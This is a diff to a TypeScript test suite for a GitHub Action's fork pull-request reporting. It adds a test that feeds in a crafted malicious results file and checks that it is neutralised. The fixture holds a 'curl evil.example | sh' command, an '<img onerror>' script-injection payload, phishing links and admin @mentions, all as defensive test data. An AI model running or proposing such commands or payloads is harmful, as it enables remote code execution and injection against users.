@@ -10,6 +10,7 @@ import { startAzurite, type Azurite } from './helpers/azurite.js';
 import { startGitHubApi, type GitHubApi } from './helpers/github-api.js';
 import { initRepo, type GitRepo } from './helpers/git-repo.js';
 import { startResultsService, type ResultsService } from './helpers/results-service.js';
+import { zip } from './helpers/zip.js';
 
 const HEAD = '9'.repeat(40);
 let azurite: Azurite;
@@ -47,7 +48,7 @@ describe('pull request from a fork → workflow_run report', () => {
   it('renders and uploads on the fork run, then comments from the trusted run (and not after the head moved)', async () => {
     const pr = await runStep({ cwd: repo.dir, event: forkPr, inputs: { backend: 'local', comment: 'never' }, env: { ...service.jobEnv('run-555', 'pr'), GITHUB_RUN_ID: '555', GITHUB_API_URL: api.url } });
     expect(pr.code).toBe(0);
-    expect(service.artifacts.map((a) => a.name)).toEqual(['voiceover-intro', 'voiceover-results']);
+    expect(service.artifacts.map((a) => a.name)).toEqual(['voiceover-intro', 'voiceover~results']);
     expect(api.requests).toEqual([]);
 
     api.pullHeads.set(9, HEAD);
@@ -57,7 +58,7 @@ describe('pull request from a fork → workflow_run report', () => {
       runStep({ cwd: emptyDir, event: workflowRun, inputs: { mode: 'report', 'github-token': 'ghs_write' }, env: { ...service.jobEnv('run-556', 'comment'), GITHUB_RUN_ID: '556', GITHUB_API_URL: api.url } });
     const report = await trusted();
     expect(report.code).toBe(0);
-    const id = service.artifacts.find((a) => a.name === 'voiceover-results')!.id;
+    const id = service.artifacts.find((a) => a.name === 'voiceover~results')!.id;
     expect(api.requests).toEqual([
       'GET /repos/octo/demo/actions/runs/555/artifacts',
       `GET /repos/octo/demo/actions/artifacts/${id}/zip`,
@@ -74,5 +75,62 @@ describe('pull request from a fork → workflow_run report', () => {
     const moved = await trusted();
     expect(moved.commands).toContain('::warning::pull request #9 has moved past 9999999: no comment for these results');
     expect(api.requests.filter((r) => r.includes('/comments'))).toEqual([]);
+  });
+
+  /** Put a crafted results artifact (and other listed artifacts) into run `runId` of the stand-ins. */
+  async function craftRun(runId: number, resultsJson: string, others: string[] = []): Promise<Record<string, number>> {
+    const ids: Record<string, number> = {};
+    for (const name of ['voiceover~results', ...others]) {
+      const blob = `run-${runId}/${name}.zip`;
+      await azurite.upload(blob, zip({ 'results.json': resultsJson }));
+      const id = service.artifacts.length + 1;
+      service.artifacts.push({ id, runId: `run-${runId}`, jobId: 'pr', name, blob, size: 1, finalized: true, expiresAt: undefined });
+      ids[name] = id;
+    }
+    return ids;
+  }
+  const runEvent = (id: number, pr: number, head: string) => ({ name: 'workflow_run', payload: { workflow_run: { id, event: 'pull_request', head_sha: head, pull_requests: [{ number: pr }] }, repository: { full_name: 'octo/demo' } } });
+
+  it('neutralises a malicious results.json: free text as code spans, links only to listed artifacts and the NemoVideo host', async () => {
+    const head = '7'.repeat(40);
+    const base = { output: null, captions: [], duration_s: null, timings_s: { tts: 0, plan: 0, render: 0, total: 0 }, loudness: null, lines: [] };
+    const evil = {
+      version: 1, shard: null, config: 'voiceover.config.yml', notRun: [], notes: ['@octo/admins look'], problems: [],
+      report: { version: 1, backend: 'local,nemo', items: [
+        { ...base, name: 'intro', status: 'failed', links: { task: 'https://evil.example/phish' },
+          error: { code: 'INPUT_CORRUPT', message: '@octo/admins please [approve](https://evil.example/x) <img src=x onerror=alert(1)>', hint: 'run `curl evil.example | sh` @someone', file: 'voiceover.config.yml', line: 3 } },
+        { ...base, name: 'outro', status: 'delivered', duration_s: 1, links: { task: 'https://nemovideo.com/workspace/claim?task=t1' } },
+      ] },
+      videos: {
+        intro: { backend: 'local', size_bytes: 1, artifact: { name: 'x', id: 4242, url: 'https://evil.example/artifact' } },
+        outro: { backend: 'nemo', size_bytes: 1, artifact: { name: 'voiceover-outro', id: 0, url: 'https://evil.example/outro' } },
+      },
+    };
+    // The results name the real id of the outro artifact, which is only known once stored: craft in two steps.
+    const ids = await craftRun(600, '{}', ['voiceover-outro']);
+    evil.videos.outro.artifact.id = ids['voiceover-outro']!;
+    await azurite.upload('run-600/voiceover~results.zip', zip({ 'results.json': JSON.stringify(evil) }));
+    api.pullHeads.set(10, head);
+    const emptyDir = (await initRepo('voiceover-trusted-')).dir;
+    const report = await runStep({ cwd: emptyDir, event: runEvent(600, 10, head), inputs: { mode: 'report', 'github-token': 'ghs_write' }, env: { ...service.jobEnv('run-601', 'comment'), GITHUB_RUN_ID: '601', GITHUB_API_URL: api.url } });
+    expect(report.code).toBe(1); // a video failed (fail-on: error)
+    const body = api.comments.find((c) => c.issue === 10)!.body;
+    expect(body).toContain('`@octo/admins please [approve](https://evil.example/x) <img src=x onerror=alert(1)>` (hint: `` run `curl evil.example | sh` @someone ``)');
+    const outside = body.replace(/(`+)[\s\S]*?\1(?!`)/g, ''); // the body with its code spans taken out
+    expect(outside).not.toMatch(/@|<img|evil\.example/);
+    expect(body).toContain(`| outro | ✅ delivered | 0:01.0 | [artifact](https://github.com/octo/demo/actions/runs/600/artifacts/${ids['voiceover-outro']}) · [task](https://nemovideo.com/workspace/claim?task=t1) |`);
+    expect(body).toContain('| intro | ❌ failed | — | — |');
+    expect(JSON.parse(report.outputs['artifact-urls']!)).toEqual({ outro: `https://github.com/octo/demo/actions/runs/600/artifacts/${ids['voiceover-outro']}` });
+  });
+
+  it('refuses a results.json of the wrong shape, naming it, and fails', async () => {
+    const head = '6'.repeat(40);
+    await craftRun(700, JSON.stringify({ version: 1, shard: null, report: 'nope' }));
+    api.pullHeads.set(11, head);
+    const emptyDir = (await initRepo('voiceover-trusted-')).dir;
+    const report = await runStep({ cwd: emptyDir, event: runEvent(700, 11, head), inputs: { mode: 'report', 'github-token': 'ghs_write' }, env: { ...service.jobEnv('run-701', 'comment'), GITHUB_RUN_ID: '701', GITHUB_API_URL: api.url } });
+    expect(report.code).toBe(1);
+    expect(report.summary).toMatch(/- ❌ `the results: artifact voiceover~results could not be read \(results\.json does not have the expected shape \(report: [^`]+\)\)`/);
+    expect(api.comments.find((c) => c.issue === 11)!.body).toContain('**Missing results**');
   });
 });
